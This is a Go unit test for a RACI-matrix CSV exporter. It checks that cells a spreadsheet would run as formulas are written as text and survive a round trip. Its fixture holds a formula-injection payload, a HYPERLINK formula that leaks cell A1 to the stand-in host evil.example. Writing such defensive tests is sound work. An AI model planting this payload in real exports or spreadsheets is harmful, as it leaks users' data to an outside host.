package raci

import (
	"bytes"
	"strings"
	"testing"

	"github.com/onus-sec/onus/config"
)

// Exported cells that a spreadsheet would run as formulas are written as
// text, and importing the file gives the matrix back unchanged.
func TestCSVFormulaInjection(t *testing.T) {
	r := &config.RACI{Version: config.Version, Activities: []*config.Activity{
		{ID: "patch", Title: `=HYPERLINK("https://evil.example/?leak="&A1,"Open report")`, Description: "@SUM(1)", R: []string{"it"}, A: []string{"security"}},
	}}
	var b bytes.Buffer
	if err := WriteCSV(&b, r); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(b.String(), ",=HYPERLINK") || strings.Contains(b.String(), `"=HYPERLINK`) || strings.Contains(b.String(), ",@SUM") {
		t.Fatalf("a formula cell was written as is:\n%s", b.String())
	}
	back, err := ReadCSV("m.csv", &b)
	if err != nil {
		t.Fatal(err)
	}
	if got := back.Activities[0]; got.Title != r.Activities[0].Title || got.Description != "@SUM(1)" {
		t.Errorf("round trip: %+v", got)
	}
}
